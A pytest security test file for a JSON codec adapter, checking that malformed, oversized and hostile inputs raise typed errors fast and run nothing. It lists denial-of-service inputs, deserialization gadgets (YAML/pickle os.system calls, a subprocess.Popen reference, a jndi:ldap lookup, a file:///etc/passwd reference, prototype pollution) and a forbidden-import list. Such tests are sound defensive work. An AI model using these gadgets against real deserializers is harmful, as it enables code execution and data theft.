"""Hostile payloads (faults 76 to 79, S1, S5): a typed error, quickly, and nothing is executed."""

import ast
import time
from pathlib import Path
from typing import Any

import attrs
import pytest

import mainspring.adapters.msgspec
from mainspring.adapters.msgspec import MsgspecCodec
from mainspring.ports.codec import Limits
from mainspring.ports.errors import InvalidValueError, MainspringError
from mainspring.ports.names import Payload

CODEC = MsgspecCodec()


@attrs.frozen
class Order:
    id: str
    parts: "tuple[Order, ...]" = ()


REFUSED = {
    "open lists": "[" * 100_000,
    "open objects": '{"a":' * 100_000,
    "nested lists": "[" * 100_000 + "]" * 100_000,
    "nested objects": '{"parts":[' * 50_000 + "]}" * 50_000,
    "one level too deep": "[" * 65 + "]" * 65,
    "NaN": "NaN",
    "Infinity in a list": "[1, Infinity]",
    "minus Infinity": '{"id": -Infinity}',
    "too large a float": "[1e999]",
    "an int of 5,000 digits": "9" * 5000,
    "a negative int of 5,000 digits": "[-" + "9" * 5000 + "]",
    "an int of a million digits": '{"id":' + "1" * 1_000_000 + "}",
    "a float of a million digits": "[" + "1" * 1_000_000 + ".0]",
    "a large exponent": "[1e99999999999999999999]",
    "doubled keys": '{"id":"a","id":"b"}',
    "doubled keys, one escaped": '{"id":"a","\\u0069d":"b"}',
    "doubled keys, deep inside": '[{"a":[{"b":{"c":1,"c":2}}]}]',
    "NUL": '["a\\u0000b"]',
    "NUL in a key": '{"a\\u0000":1}',
    "a lone surrogate": '["\\ud800"]',
    "a lone surrogate, the wrong way round": '["\\udc00\\ud800"]',
    "a raw lone surrogate": '["\ud800"]',
    "control characters": '["a\x01"]',
    "bytes after the end": "{}{}",
    "comments": "[1] // two",
    "Python": "{'a': 1}",
    "nothing": "",
    "an unterminated string of escapes": '"' + '\\"' * 500_000,
    "an open string and brackets": '["' + "[" * 500_000,
}

GADGETS = [
    "!!python/object/apply:os.system ['touch {}']",
    "cos\nsystem\n(S'touch {}'\ntR.",
    '{{"py/object": "os.system", "py/args": ["touch {}"]}}',
    '{{"__reduce__": ["os.system", ["touch {}"]]}}',
    '{{"__class__": "subprocess.Popen", "args": ["touch", "{}"]}}',
    '{{"$ref": "file:///etc/passwd", "touch": "{}"}}',
    "\"__import__('os').system('touch {}')\"",
    '{{"id": "${{jndi:ldap://x/{}}}"}}',
    '{{"__proto__": {{"touch": "{}"}}}}',
]


@pytest.mark.fault(79, "S5")
@pytest.mark.parametrize("kind", [Any, Order, list[Order], dict[str, int], str], ids=str)
@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_text_is_refused_with_a_typed_error(name: str, kind: Any) -> None:
    with pytest.raises(InvalidValueError) as caught:
        CODEC.decode(Payload(REFUSED[name]), kind)
    assert len(str(caught.value)) < 20_000


@pytest.mark.fault(77, "S5")
@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_text_is_refused_without_much_work(name: str) -> None:
    started = time.process_time()
    with pytest.raises(InvalidValueError):
        CODEC.decode(Payload(REFUSED[name]), Any)
    assert time.process_time() - started < 2.0  # linear work takes milliseconds


@pytest.mark.fault(77)
def test_a_text_over_the_limit_is_not_parsed() -> None:
    codec = MsgspecCodec(Limits(size=1000))
    with pytest.raises(InvalidValueError, match="at most 1,000 are allowed"):
        codec.decode(Payload("[" * 2000), Any)


@pytest.mark.fault("S1", "S20")
@pytest.mark.parametrize("gadget", GADGETS)
def test_a_gadget_is_data_or_an_error_and_runs_nothing(gadget: str, tmp_path: Path) -> None:
    mark = tmp_path / "executed"
    text = Payload(gadget.format(mark))
    for kind in (Any, Order, dict[str, Any], object):
        try:
            value = CODEC.decode(text, kind)
        except MainspringError:
            continue
        assert type(value) in (str, dict, Order)
    assert not mark.exists()


@pytest.mark.fault("S1")
def test_no_name_in_a_payload_makes_another_class() -> None:
    text = Payload('{"type":"builtins.eval","__class__":"os.system","kind":"Order","id":"1"}')
    assert type(CODEC.decode(text, Any)) is dict
    with pytest.raises(InvalidValueError, match="unknown field"):
        CODEC.decode(text, Order)


class Reduced:
    def __reduce__(self) -> tuple[Any, ...]:
        raise AssertionError("pickled")

    def __getstate__(self) -> object:
        raise AssertionError("pickled")

    def __repr__(self) -> str:
        raise AssertionError("shown")

    __str__ = __repr__


@pytest.mark.fault(78, "S1")
def test_an_object_with_pickle_hooks_is_refused_untouched() -> None:
    with pytest.raises(InvalidValueError, match=r"\$\.result: values of type .*Reduced` cannot be encoded"):
        CODEC.encode({"result": Reduced()})


def test_a_value_that_refers_to_itself_many_times_is_refused_at_once() -> None:
    value: list[Any] = []
    value.extend([value] * 100)
    with pytest.raises(InvalidValueError, match="contains itself"):
        CODEC.encode(value)


@pytest.mark.fault(76, "S6")
def test_messages_do_not_repeat_the_values_of_payloads() -> None:
    secret = "hunter2-4711"
    text = Payload(f'{{"id": ["{secret}"], "parts": "{secret}", "x": "{secret}"}}')
    with pytest.raises(InvalidValueError) as caught:
        CODEC.decode(text, Order)
    assert secret not in str(caught.value)
    with pytest.raises(InvalidValueError) as caught:
        CODEC.encode({"a": [secret, object()], "b": secret + "\0"})
    assert secret not in str(caught.value)


@pytest.mark.fault("S1", "S20")
def test_the_codec_imports_nothing_that_runs_code() -> None:
    forbidden = {"pickle", "marshal", "shelve", "copyreg", "importlib", "subprocess", "yaml", "dill", "runpy"}
    (place,) = mainspring.adapters.msgspec.__path__
    for file in Path(place).glob("*.py"):
        tree = ast.parse(file.read_text())
        names = {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)}
        imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
        imported |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
        assert not imported & forbidden, file
        assert not names & {"eval", "exec", "compile", "__import__"}, file
